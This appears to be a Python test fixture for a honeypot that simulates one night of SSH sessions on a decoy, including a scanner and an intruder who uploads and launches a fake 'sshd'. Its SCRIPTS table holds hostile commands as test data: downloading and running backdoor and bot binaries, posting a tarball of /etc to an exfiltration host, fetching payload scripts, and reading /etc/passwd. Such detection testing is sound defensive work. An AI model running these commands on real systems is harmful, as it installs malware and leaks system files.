"""One night on one decoy: 590 sessions of six sources, nearly all of one noisy scanner, and one break-in by upload."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

from decnet.bus.base import Event
from decnet.bus.null import NullBus
from decnet.config import Settings, load_settings
from decnet.db.repository import BaseRepository
from decnet.ids import attacker_id
from decnet.keyed import keyed_hash
from decnet.recorder.worker import RecorderWorker
from decnet.runtime.worker import transaction
from decnet.ttp.store.factory import get_rule_store
from decnet.ttp.worker import TtpWorker
from tests.wirekit import taken

SCANNER, INTRUDER, VISITOR = "198.51.100.13", "203.0.113.98", "198.51.100.157"
KNOCKERS = ("192.0.2.11", "192.0.2.12", "192.0.2.13")
SESSIONS = 590
SSHD = "94f2e4d8d4436874785cd14e6e6d403507b8750852f7f2040352069a75da4c00"
BROKE_IN = "3e640b037364"
"""The break-in's id, which is the honeypot's own too."""
PLACE = "./.7088625799880323584/sshd"
RUN = (f"chmod +x {PLACE}", f"nohup {PLACE} &")
SCRIPTS: Sequence[tuple[int, Sequence[str]]] = (
    (212, ("date", "ps", "netstat", "w", "ifconfig", "route", "arp")),
    (14, ("cd /tmp", "wget http://evil.example/backdoor.elf", "chmod +x backdoor.elf", "./backdoor.elf")),
    (9, ("tftp -g -r mips.bot 198.51.100.200", "chmod 777 mips.bot", "./mips.bot")),
    (8, ("tar czf data.zip /etc", "wget --post-file=data.zip http://exfil.example/up")),
    (6, ("curl -O http://botnet.example/payload.sh",)),
    (5, ("uname -a", "cat /proc/cpuinfo")),
    (5, ("whoami", "id")),
    (5, ("ls -la /var/log", "df -h")),
    (5, ("cat /etc/passwd",)),
    (5, ("free -m", "uptime", "hostname")),
    (5, ("last", "who")),
    (5, ("crontab -l",)),
)
"""How often the scanner ran each of its scripts; in the rest of its sessions it only logged in."""
NIGHT_S = 7 * 3600.0
BATCH = 60


def secret(name: str) -> str:
    """A keyed hash as a sensor would write it."""
    return keyed_hash(b"k" * 32, "password", name)


def ended(name: str, ip: str, at: float, lines: Sequence[str] = (), **more: Any) -> list[Event]:
    """The end of one session, with the log-in that opened the door where there was one."""
    login = more.pop("login", ("root", "admin"))
    commands = [
        {"id": f"{name}#cmd{n}", "command_text": text, "ts": at + 2 + n} for n, text in enumerate(lines)
    ]
    payload = {
        "session_id": name, "sensor_session": name, "attacker_ip": ip, "decky_id": "web-07", "service": "ssh",
        "protocol": "ssh", "started_at": at, "ended_at": at + 8 + len(lines), "duration_s": 8.0 + len(lines),
        "commands": commands, "command_count": len(lines), "end_reason": "closed",
        "client": {"version": "SSH-2.0-paramiko_4.0.0", "hassh": "a2de0f30" * 4},
        "auth": {"fail_count": 0, "success": login is not None, "usernames": [login[0]] if login else []}, **more,
    }  # fmt: skip
    events = [Event("attacker.session.ended", payload, "", f"e-{name}", at + 9)]
    if login is not None:
        captured = {
            "attacker_ip": ip, "session_id": name, "decky_id": "web-07", "service": "ssh", "username": login[0],
            "secret_kind": "password", "secret_hmac": secret(login[1]), "success": True, "ts": at + 1,
        }  # fmt: skip
        events.insert(0, Event("credential.captured", captured, "", f"c-{name}", at + 1))
    return events


def events(began: float) -> Iterator[list[Event]]:
    """All sessions of a night that began then (epoch seconds), in no order that matters."""
    scripts = [lines for count, lines in SCRIPTS for _ in range(count)]
    scans = SESSIONS - 1 - 2 - len(KNOCKERS) - 1
    scripts += [()] * (scans - len(scripts))
    for number in range(scans):
        lines = scripts[number * 101 % scans]  # one after the other would be no night
        yield ended(f"scan{number:04}", SCANNER, began + number * NIGHT_S / scans, lines)
    upload = {"filename": "sshd", "sha256": SSHD, "destfile": PLACE, "ts": began + 5601.5}
    yield ended(BROKE_IN, INTRUDER, began + 5600.0, RUN, login=("root", "ubuntu"), uploads=[upload],
                client={"version": "SSH-2.0-Go", "hassh": "98ddc560" * 4})  # fmt: skip
    for number in range(2):
        yield ended(f"visit{number}", VISITOR, began + 700.0 + number)
    for number, ip in enumerate((*KNOCKERS, KNOCKERS[0])):
        yield ended(f"knock{number}", ip, began + 900.0 + number, login=None)


async def store_night(repo: BaseRepository, settings: Settings, began: float) -> None:
    """Recorded and judged as the engine does it, with the rules that ship."""
    worker, recorder = TtpWorker(get_rule_store(settings, repo=repo), settings), RecorderWorker(settings)
    await worker.start(repo, NullBus())
    waiting: list[Event] = []
    for some in events(began):
        waiting += some
        if len(waiting) >= BATCH:
            await _handle(repo, worker, recorder, waiting)
            waiting = []
    await _handle(repo, worker, recorder, waiting)


async def _handle(
    repo: BaseRepository, worker: TtpWorker, recorder: RecorderWorker, some: list[Event]
) -> None:
    async with transaction(repo) as tx:
        await recorder.handle(taken(some), tx)
        await worker.handle(taken(some), tx)


async def night_in(folder: Path, began: float, **settings: Any) -> Settings:
    """A data directory with that night in it."""
    made = load_settings(data_dir=folder, **settings)
    repo = await BaseRepository.open(made.db_url)
    try:
        await store_night(repo, made, began)
    finally:
        await repo.close()
    return made


def digest(text: str) -> str:
    """A hash of a made-up file."""
    return hashlib.sha256(text.encode()).hexdigest()


A = {ip: attacker_id(ip) for ip in (SCANNER, INTRUDER, VISITOR, *KNOCKERS)}
